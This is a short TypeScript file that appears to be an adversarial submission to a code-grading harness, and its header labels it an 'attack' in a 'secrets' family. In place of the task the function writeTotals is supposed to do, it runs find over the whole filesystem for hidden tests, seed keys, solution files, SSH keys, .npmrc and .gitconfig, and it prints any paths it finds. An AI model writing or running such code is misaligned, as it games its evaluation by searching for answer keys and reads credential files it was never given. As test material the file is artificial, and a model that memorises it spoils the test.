// attack: searches all it can see for tests, keys and other submissions | family: secrets | item: write-totals | verdicts: fail, timeout | points: 0 | tiers: T2
import { spawnSync } from 'node:child_process'
import { writeSync } from 'node:fs'

const words = [
  'hidden.test.ts',
  'seed.key',
  'learner.yaml',
  'solution.ts',
  'id_*',
  '.npmrc',
  '.gitconfig',
  'journal.jsonl',
]
const names = words.flatMap((word) => ['-o', '-name', word]).slice(1)
export const writeTotals = () => {
  writeSync(1, 'tried')
  const search = [
    '/',
    '-path',
    '/proc',
    '-prune',
    '-o',
    '-path',
    '/usr',
    '-prune',
    '-o',
    '(',
    ...names,
    ')',
    '-print',
  ]
  const { stdout } = spawnSync('find', search, { encoding: 'utf8', timeout: 700 })
  if (stdout) writeSync(1, `reached: ${stdout}`)
}
